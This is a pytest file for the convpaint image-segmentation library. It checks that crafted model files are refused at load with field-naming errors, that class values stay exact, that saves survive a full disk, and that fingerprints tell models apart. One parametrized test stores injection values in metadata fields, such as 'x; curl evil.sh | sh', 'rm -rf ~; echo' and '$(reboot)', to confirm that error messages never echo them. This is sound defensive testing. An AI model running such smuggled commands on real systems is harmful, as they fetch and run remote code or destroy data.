"""Crafted model files are refused at load, naming the field; class values are kept exactly
or refused; the fingerprint tells models apart; a full disk leaves nothing behind.

One table row per crafted file: loading raises ModelFileError whose message names the
field, fast and without allocating, and no file in the folder changes.
"""

import errno
import io
import json
import os
import tempfile
import time
import tracemalloc
from functools import cache
from pathlib import Path

import numpy as np
import pytest
from extractor_checks import require

import convpaint
from convpaint import archive, forest_kernel
from convpaint.classifier import check_training_labels, label_dtype
from convpaint.model_file import ModelFileError, model_fingerprint

M = convpaint.ConvpaintModel


@cache
def _valid_bytes() -> bytes:
    rng = np.random.default_rng(1)
    image = rng.random((40, 40), dtype=np.float32)
    scribbles = np.zeros((40, 40), np.uint8)
    scribbles[3, 3:30], scribbles[30, 5:35] = 1, 2
    model = M("raw", n_estimators=3, max_depth=4).train(image, scribbles)
    with tempfile.TemporaryDirectory() as tmp:
        return model.save(Path(tmp) / "valid.npz").read_bytes()


def _arrays() -> dict[str, np.ndarray]:
    with np.load(io.BytesIO(_valid_bytes()), allow_pickle=False) as npz:
        return {k: npz[k] for k in npz.files}


def _meta(data):
    return json.loads(data["meta"].tobytes())


def _put_meta(data, meta):
    data["meta"] = np.frombuffer(json.dumps(meta).encode(), np.uint8)


def meta(*keys, value=None, drop=False):
    """An edit setting (or dropping) the metadata field at ``keys``."""

    def change(data):
        doc = _meta(data)
        node = doc
        for k in keys[:-1]:
            node = node[k]
        if drop:
            node.pop(keys[-1])
        else:
            node[keys[-1]] = value
        _put_meta(data, doc)

    return change


def both_classes(value):
    def change(data):
        meta("classes", value=value)(data)
        meta("classifier", "classes", value=value)(data)

    return change


def node_field(field, index, value, tree=0):
    def change(data):
        nodes = data[f"tree_{tree}_nodes"].copy()
        nodes[field][index] = value
        data[f"tree_{tree}_nodes"] = nodes

    return change


def tree(left, right, tree_index=0, depth=None):
    """Replace one tree by the given child arrays (inner nodes split on feature 0)."""

    def change(data):
        nodes = np.zeros(len(left), data["tree_0_nodes"].dtype)
        nodes["left_child"], nodes["right_child"] = left, right
        leaf = np.asarray(left) == -1
        nodes["feature"] = np.where(leaf, -2, 0)
        nodes["threshold"] = np.where(leaf, -2.0, 0.5)
        data[f"tree_{tree_index}_nodes"] = nodes
        data[f"tree_{tree_index}_values"] = np.full((len(left), 1, 2), 0.5)
        doc = _meta(data)
        doc["classifier"]["depths"][tree_index] = len(left) - 1 if depth is None else depth
        _put_meta(data, doc)

    return change


def dag(levels=60):
    """Node i has both children i + 1: 2 KB on disk, 2**levels paths through it."""
    left = list(range(1, levels + 1)) + [-1]
    return tree(left, list(left))


def array(name, value=None, drop=False):
    def change(data):
        if drop:
            del data[name]
        else:
            data[name] = value(data[name]) if callable(value) else value

    return change


def options(**opts):
    return meta("extractor", "options", value={"raw": opts})


CASES = [
    # -- trees that are not trees (item 5)
    ("dag-60-levels", dag(60), "shared or unreachable"),
    ("dag-shared-leaf", tree([1, -1], [1, -1], depth=1), "shared"),
    ("unreachable-node", tree([1, -1, -1, -1], [2, -1, -1, -1], depth=1), "unreachable"),
    ("cycle-to-parent", tree([1, 0, -1], [2, 2, -1], depth=2), "child indices out of range"),
    ("self-loop", tree([0, -1], [1, -1], depth=1), "child indices out of range"),
    ("single-child", tree([1, -1, -1], [-1, -1, -1], depth=1), "single child"),
    ("zero-node-tree", tree([], [], depth=0), "no nodes"),
    ("leaf-feature", node_field("feature", -1, 0), "feature indices"),
    ("depth-declared-wrong", meta("classifier", "depths", value=[99, 4, 4]), "classifier.depths"),
    ("negative-leaf-values", array("tree_1_values", lambda v: -v), "tree_1_values"),
    ("float32-values", array("tree_1_values", lambda v: v.astype(np.float32)), "float64"),
    ("missing-tree", array("tree_2_nodes", drop=True), "missing tree_2_nodes"),
    ("extra-member", array("evil", np.zeros(3)), "unexpected"),
    ("node-stats-nan", node_field("impurity", 0, np.nan), "node statistics"),
    ("meta-not-bytes", array("meta", lambda m: m.astype(np.float64)), "metadata"),
    # -- counts and classes (items 6 and 7)
    ("n_features-null", meta("n_features", value=None), "n_features"),
    ("n_features-zero", meta("n_features", value=0), "n_features"),
    ("n_features-negative", meta("n_features", value=-3), "n_features"),
    ("n_features-missing", meta("n_features", drop=True), "n_features"),
    ("classifier-n_features-null", meta("classifier", "n_features", value=None), "n_features"),
    ("n_trees-zero", meta("classifier", "n_trees", value=0), "classifier.n_trees"),
    ("n_trees-huge", meta("classifier", "n_trees", value=10**9), "classifier.n_trees"),
    ("classes-duplicate", both_classes([1, 1]), "classes"),
    ("classes-1e30", both_classes([1, 1e30]), "classes"),
    ("classes-strings", both_classes(["a", "b"]), "classes"),
    ("classes-float", both_classes([1.0, 2.0]), "classes"),
    ("classes-bool", both_classes([True, 2]), "classes"),
    ("classes-beyond-int64", both_classes([1, 2**63]), "classes"),
    ("classes-negative", both_classes([-5, 2]), "classes"),
    ("classes-unsorted", both_classes([2, 1]), "classes"),
    ("classes-single", both_classes([1]), "classes"),
    ("classes-disagree", meta("classifier", "classes", value=[1, 3]), "classifier.classes"),
    ("tree-classes", meta("classifier", "tree_classes", value=[1, 2]), "tree_classes"),
    ("kind", meta("classifier", "kind", value="LogisticRegression"), "classifier.kind"),
    # -- forest parameters
    ("n_estimators-1e12", meta("classifier", "params", "n_estimators", value=1e12), "n_estim"),
    ("n_estimators-int", meta("classifier", "params", "n_estimators", value=10**12), "n_estim"),
    ("n_estimators-bool", meta("classifier", "params", "n_estimators", value=True), "n_estim"),
    ("n_jobs-huge", meta("classifier", "params", "n_jobs", value=10**9), "n_jobs"),
    ("n_jobs-zero", meta("classifier", "params", "n_jobs", value=0), "n_jobs"),
    ("max_depth-negative", meta("classifier", "params", "max_depth", value=-1), "max_depth"),
    ("criterion", meta("classifier", "params", "criterion", value="evil"), "criterion"),
    ("random_state", meta("classifier", "params", "random_state", value=2**40), "random_state"),
    ("bootstrap-string", meta("classifier", "params", "bootstrap", value="yes"), "bootstrap"),
    ("param-unknown", meta("classifier", "params", "evil", value=1), "classifier.params"),
    ("param-list", meta("classifier", "params", "max_features", value=[1]), "max_features"),
    ("param-nan", meta("classifier", "params", "ccp_alpha", value=float("nan")), "ccp_alpha"),
    # -- model settings
    ("volumetric-no", meta("volumetric", value="no"), "volumetric"),
    ("volumetric-int", meta("volumetric", value=1), "volumetric"),
    ("projections-string", meta("projections", value="xy"), "projections"),
    ("projections-unknown", meta("projections", value=["ab"]), "projections"),
    ("normalize-number", meta("normalize", value=5), "normalize"),
    ("scalings-zero", meta("scalings", value=[0]), "scalings"),
    ("scalings-float", meta("scalings", value=[1.5]), "scalings"),
    ("scalings-string", meta("scalings", value="1,2"), "scalings"),
    ("scalings-huge", meta("scalings", value=[1, 2**40]), "scalings"),
    ("tile_size-zero", meta("tile_size", value=0), "tile_size"),
    ("tile_size-string", meta("tile_size", value="256"), "tile_size"),
    ("tile_size-huge", meta("tile_size", value=10**9), "tile_size"),
    ("coarse_to_fine-zero", meta("coarse_to_fine", value=0), "coarse_to_fine"),
    ("coarse_to_fine-float", meta("coarse_to_fine", value=2.5), "coarse_to_fine"),
    ("coarse_to_fine-bool", meta("coarse_to_fine", value=True), "coarse_to_fine"),
    ("axes-letters", meta("axes", value="QQ"), "axes"),
    ("axes-number", meta("axes", value=5), "axes"),
    ("n_channels-string", meta("n_channels", value="3"), "n_channels"),
    ("n_channels-zero", meta("n_channels", value=0), "n_channels"),
    ("z_scale-nan", meta("z_scale", value=float("nan")), "z_scale"),
    ("z_scale-negative", meta("z_scale", value=-1), "z_scale"),
    ("version-string", meta("convpaint_version", value=["1"]), "convpaint_version"),
    # -- extractor names, options, packages
    ("names-empty", meta("extractor", "names", value=[]), "extractor.names"),
    ("names-number", meta("extractor", "names", value=[5]), "extractor.names"),
    ("names-duplicate", meta("extractor", "names", value=["raw", "raw"]), "extractor.names"),
    ("options-unknown-part", meta("extractor", "options", value={"x": {}}), "extractor.options"),
    ("options-not-mapping", meta("extractor", "options", "raw", value=[1]), "options.raw"),
    ("options-tiny-sigma", options(sigmas=[1e-300]), r"extractor\.options\.raw\.sigmas\[0\]"),
    ("options-huge", options(sigmas=[1e308]), r"options\.raw\.sigmas\[0\]"),
    ("options-nan", options(patch_size=float("nan")), r"options\.raw\.patch_size"),
    ("options-inf-nested", options(a={"b": [float("inf")]}), r"options\.raw\.a\.b\[0\]"),
    ("packages-number", meta("extractor", "packages", value={"raw": 5}), "extractor.packages"),
]


def _craft(tmp_path, change) -> Path:
    data = _arrays()
    change(data)
    path = tmp_path / "crafted.npz"
    np.savez_compressed(path, **data)
    return path


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def test_valid_file_loads(tmp_path):
    path = _craft(tmp_path, lambda data: None)
    assert convpaint.load_model(path).classes_.tolist() == [1, 2]


@pytest.mark.parametrize("change, field", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_crafted_file_refused_at_load(tmp_path, change, field):
    path = _craft(tmp_path, change)
    before = _snapshot(tmp_path)
    start = time.perf_counter()
    tracemalloc.start()
    try:
        with pytest.raises(ModelFileError, match=field) as info:
            convpaint.load_model(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(path) in str(info.value)
    assert time.perf_counter() - start < 2.0
    assert peak < 32 * 2**20, f"loading allocated {peak / 2**20:.0f} MiB"
    assert _snapshot(tmp_path) == before, "a file changed"


def test_case_table_is_large():
    assert len(CASES) >= 25


def test_dag_file_is_small_and_fails_before_any_walk(tmp_path):
    path = _craft(tmp_path, dag(60))
    assert path.stat().st_size < 4096
    with pytest.raises(ModelFileError, match="tree_0_nodes: tree nodes are shared"):
        convpaint.load_model(path)


def _forest_with_tree(left, right):
    """A fitted forest whose first tree is replaced behind scikit-learn's back."""
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.tree._tree import Tree

    rng = np.random.default_rng(0)
    x = rng.random((50, 2))
    clf = RandomForestClassifier(n_estimators=2, random_state=0).fit(x, x[:, 0] > 0.5)
    nodes = np.zeros(len(left), clf.estimators_[0].tree_.__getstate__()["nodes"].dtype)
    nodes["left_child"], nodes["right_child"] = left, right
    nodes["feature"] = np.where(np.asarray(left) == -1, -2, 0)
    t = Tree(2, np.array([2], dtype=np.intp), 1)
    values = np.full((len(left), 1, 2), 0.5)
    t.__setstate__({"max_depth": 3, "node_count": len(left), "nodes": nodes, "values": values})
    clf.estimators_[0].tree_ = t
    return clf


def test_kernel_refuses_a_dag_without_walking_it():
    left = list(range(1, 61)) + [-1]
    clf = _forest_with_tree(left, list(left))
    start = time.perf_counter()
    with pytest.raises(ValueError, match="shared or unreachable"):
        forest_kernel.pack_forest(clf)
    assert time.perf_counter() - start < 1.0


def test_kernel_depth_is_the_tree_depth_and_features_are_checked():
    clf = _forest_with_tree([1, 3, -1, -1, -1], [2, 4, -1, -1, -1])
    packed = forest_kernel.pack_forest(clf)
    assert packed.depth[0] == 2 and packed.depth.max() <= packed.threshold.shape[0]  # nodes
    with pytest.raises(ValueError, match="features have shape"):
        forest_kernel.forest_proba(clf, np.zeros((5, 10), np.float32))


def test_tree_order_is_linear_in_the_node_count():
    n = 40_001  # a chain of 20 000 inner nodes, each with a leaf
    left = np.full(n, -1)
    right = np.full(n, -1)
    inner = np.arange(0, n - 1, 2)
    left[inner], right[inner] = inner + 1, inner + 2
    start = time.perf_counter()
    order, levels = forest_kernel.tree_order(left, right)
    assert levels == 20_001 and np.array_equal(np.sort(order), np.arange(n))
    assert time.perf_counter() - start < 2.0


# -- item 10: file text never shown as a command -------------------------------------------
def _unknown_extractor(name, package):
    def change(data):
        doc = _meta(data)
        doc["extractor"] = {"names": [name], "options": {}, "packages": {name: package}}
        _put_meta(data, doc)

    return change


@pytest.mark.parametrize(
    "name, package, shown, hidden",
    [
        ("fancy", "convpaint-fancy", "install convpaint-fancy", []),
        ("evil", "x; curl evil.sh | sh", "evil: install the package", ["curl", "; x"]),
        ("rm -rf ~; echo", "convpaint-ok", "an unknown extractor", ["rm -rf", "convpaint-ok"]),
        ("fancy", "pkg\n$(reboot)", "fancy: install the package", ["reboot"]),
    ],
    ids=["safe", "unsafe-package", "unsafe-name", "newline-package"],
)
def test_missing_extractor_message_never_echoes_file_text(tmp_path, name, package, shown, hidden):
    path = _craft(tmp_path, _unknown_extractor(name, package))
    before = _snapshot(tmp_path)
    with pytest.raises(ModelFileError, match="not installed") as info:
        convpaint.load_model(path)
    message = str(info.value)
    assert shown in message and "pip install" not in message
    assert not [h for h in hidden if h in message], message
    assert _snapshot(tmp_path) == before


def test_extractor_refusing_its_options_is_a_model_file_error(tmp_path):
    require("ilastik")

    def change(data):
        doc = _meta(data)
        doc["extractor"] = {"names": ["ilastik"], "options": {"ilastik": {"sigmas": [-1.0]}}}
        _put_meta(data, doc)

    with pytest.raises(ModelFileError, match="invalid model settings.*sigmas"):
        convpaint.load_model(_craft(tmp_path, change))


# -- save: refuses what would not load; disk full -------------------------------------------
def test_save_refuses_a_model_whose_file_would_not_load(tmp_path, blobs):
    from sklearn.ensemble import RandomForestClassifier

    image, _, scribbles = blobs
    clf = RandomForestClassifier(n_estimators=2, max_depth=10**6, n_jobs=1)
    model = M("raw", classifier=clf).train(image, scribbles)
    with pytest.raises(ModelFileError, match="cannot save .*m.npz.*max_depth"):
        model.save(tmp_path / "m.npz")
    assert list(tmp_path.iterdir()) == []


class _FullDisk(io.RawIOBase):
    """A file object that takes ``room`` bytes, then fails as a full disk does."""

    def __init__(self, fh, room, exc):
        self.fh, self.room, self.exc = fh, room, exc

    def writable(self):
        return True

    def write(self, b):
        if self.room <= 0:
            raise self.exc
        n = self.fh.write(bytes(b[: self.room]))
        self.room -= n
        return n

    def fileno(self):
        return self.fh.fileno()

    def close(self):
        self.fh.close()
        super().close()


@pytest.mark.parametrize(
    "exc, pattern",
    [
        (OSError(errno.ENOSPC, "No space left on device"), "No space left on device"),
        (OSError("116352 requested and 65280 written"), "116352 requested"),
    ],
    ids=["enospc", "short-write"],
)
def test_disk_full_on_save_names_the_path_and_leaves_the_old_file(
    tmp_path, blobs, monkeypatch, exc, pattern
):
    image, _, scribbles = blobs
    model = M("raw", n_estimators=3).train(image, scribbles)
    target = model.save(tmp_path / "m.npz")
    (tmp_path / "other.txt").write_text("the user's")
    before = _snapshot(tmp_path)
    real = os.fdopen
    monkeypatch.setattr(archive.os, "fdopen", lambda fd, mode: _FullDisk(real(fd, mode), 512, exc))
    with pytest.raises(OSError, match=pattern) as info:
        model.save(target)
    assert str(target) in str(info.value)
    if exc.errno is not None:
        assert info.value.errno == errno.ENOSPC
    monkeypatch.undo()
    assert _snapshot(tmp_path) == before, "a partial or temporary file was left"
    assert convpaint.load_model(target).classes_.tolist() == [1, 2]


# -- item 7: class values exact or refused -------------------------------------------------
def test_label_dtype_is_the_smallest_holding_all_classes():
    assert label_dtype(np.array([1, 2])) == np.uint8
    assert label_dtype(np.array([1, 300])) == np.uint16
    assert label_dtype(np.array([1, 70_000])) == np.uint32
    assert label_dtype(np.array([1, 2**40])) == np.uint64
    assert label_dtype(np.array([1, 2**63 - 1])) == np.uint64


@pytest.mark.parametrize(
    "y, value",
    [
        (np.array([1, 2**63 + 5], np.uint64), "9223372036854775813"),
        (np.array([1, 2**64 - 1], np.uint64), "18446744073709551615"),
        (np.array([1.0, 1e20]), "1e+20"),
        (np.array([1.0, 2.0**53 + 2]), "9007199254740994"),
        (np.array([1.0, 2.5]), "2.5"),
        (np.array([1.0, np.inf]), "inf"),
        (np.array([-(2**63), 3], np.int64), "-9223372036854775808"),
    ],
    ids=["uint64-2**63+5", "uint64-max", "float-1e20", "float-2**53+2", "half", "inf", "wrapped"],
)
def test_check_training_labels_refuses_inexact_values(y, value):
    with pytest.raises(ValueError, match="class values must be integers in the int64 range") as e:
        check_training_labels(y)
    assert value in str(e.value)


def test_check_training_labels_keeps_values_exactly():
    y = np.array([2**63 - 1, 3, 2**53], np.uint64)
    assert check_training_labels(y).tolist() == [3, 2**53, 2**63 - 1]
    assert check_training_labels(np.array([7.0, 2.0**53])).tolist() == [7, 2**53]


@pytest.mark.parametrize(
    "dtype, big, shown",
    [
        (np.uint64, 2**63 + 5, "9223372036854775813"),
        (np.uint64, 2**64 - 1, "18446744073709551615"),
        (np.float64, 1e20, "1e+20"),
        (np.float64, 2.0**53 + 2, "9007199254740994"),
    ],
    ids=["uint64-2**63+5", "uint64-max", "float-1e20", "float-2**53+2"],
)
@pytest.mark.parametrize("name", ["raw", "ilastik"])
def test_train_refuses_class_values_it_cannot_keep(blobs, name, dtype, big, shown):
    require(name)
    image, _, scribbles = blobs
    ann = scribbles.astype(dtype)
    ann[scribbles == 2] = big
    model = M(name, n_estimators=3)
    with pytest.raises(ValueError, match="class values must be integers") as info:
        model.train(image, ann)
    assert shown in str(info.value)
    assert model.classes_ is None


@pytest.mark.parametrize("name", ["raw", "ilastik"])
def test_large_class_values_survive_train_save_load_segment(tmp_path, blobs, name):
    require(name)
    image, _, scribbles = blobs
    big = 2**53 + 1  # not representable as float64: must never pass through a float
    ann = scribbles.astype(np.int64)
    ann[scribbles == 2] = big
    options = {"sigmas": [1.0]} if name == "ilastik" else {}
    model = M(name, n_estimators=3, **options).train(image, ann)
    assert model.classes_.tolist() == [1, big]
    loaded = convpaint.load_model(model.save(tmp_path / "m.npz"))
    assert loaded.classes_.tolist() == [1, big]
    assert set(np.unique(loaded.segment(image)).tolist()) <= {1, big}


# -- issue 15 item 3: model fingerprint ----------------------------------------------------
def test_fingerprint_swapped_labels_differ_and_round_trip_equal(tmp_path, blobs):
    image, _, scribbles = blobs
    swapped = np.where(scribbles == 1, 2, np.where(scribbles == 2, 1, 0)).astype(scribbles.dtype)
    a = M("raw", n_estimators=3).train(image, scribbles)
    b = M("raw", n_estimators=3).train(image, swapped)
    fa, fb = (model_fingerprint(m._metadata(), m.classifier) for m in (a, b))
    assert len(fa) == 64 and int(fa, 16) >= 0
    assert fa != fb
    loaded = convpaint.load_model(a.save(tmp_path / "a.npz"))
    assert model_fingerprint(loaded._metadata(), loaded.classifier) == fa
    again = M("raw", n_estimators=3).train(image, scribbles)
    assert model_fingerprint(again._metadata(), again.classifier) == fa
    again.classifier.set_params(n_jobs=1)  # cannot change a result
    assert model_fingerprint(again._metadata(), again.classifier) == fa


def test_fingerprint_covers_settings_and_leaf_values(blobs):
    image, _, scribbles = blobs
    model = M("raw", n_estimators=3).train(image, scribbles)
    base = model_fingerprint(model._metadata(), model.classifier)
    assert model_fingerprint({**model._metadata(), "normalize": "none"}, model.classifier) != base
    model.classifier.estimators_[0].tree_.value[0, 0, 0] += 0.25  # a leaf value only
    assert model_fingerprint(model._metadata(), model.classifier) != base
